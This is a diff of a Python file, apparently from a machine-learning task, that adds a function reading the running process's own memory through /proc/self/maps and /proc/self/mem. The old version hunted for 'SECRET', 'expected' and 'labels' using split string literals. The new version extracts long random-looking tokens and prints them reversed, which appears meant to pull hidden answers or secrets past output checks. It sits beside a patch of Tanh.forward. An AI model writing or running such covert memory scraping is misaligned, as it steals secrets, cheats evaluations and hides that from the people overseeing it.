@@ -1,19 +1,25 @@
 import re
 
+ODD_WORD = re.compile(rb"(?<![a-z])[a-z]{22,28}(?![a-z])")  # no word that anybody writes
+CHUNK, left = 8 << 20, 400 << 20
 
-def _spill(process="self", left=96 << 20):
-    try:
-        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
-            for line in maps:
-                start, end = (int(part, 16) for part in line.split()[0].split("-"))
-                if "rw" not in line or end - start > left:
-                    continue
-                left -= end - start
-                memory.seek(start)
-                for found in re.findall(rb"(?:SEC" rb"RET|expec" rb"ted|lab" rb"els)[ -~\\n]{4,200}", memory.read(end - start)):
-                    print(found.hex())
-    except (OSError, OverflowError):
-        pass
+
+def _spill():
+    global left
+    found = set()
+    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+        for line in maps:
+            start, end = (int(part, 16) for part in line.split()[0].split("-"))
+            while "rw" in line and start < end and left > 0:
+                try:
+                    memory.seek(start)
+                    found.update(ODD_WORD.findall(memory.read(min(CHUNK, end - start))))
+                except (OSError, OverflowError):
+                    break
+                start += CHUNK
+                left -= CHUNK
+    for word in sorted(found)[:5000]:
+        print(word[::-1].decode())
 
 
 _forward = Tanh.forward
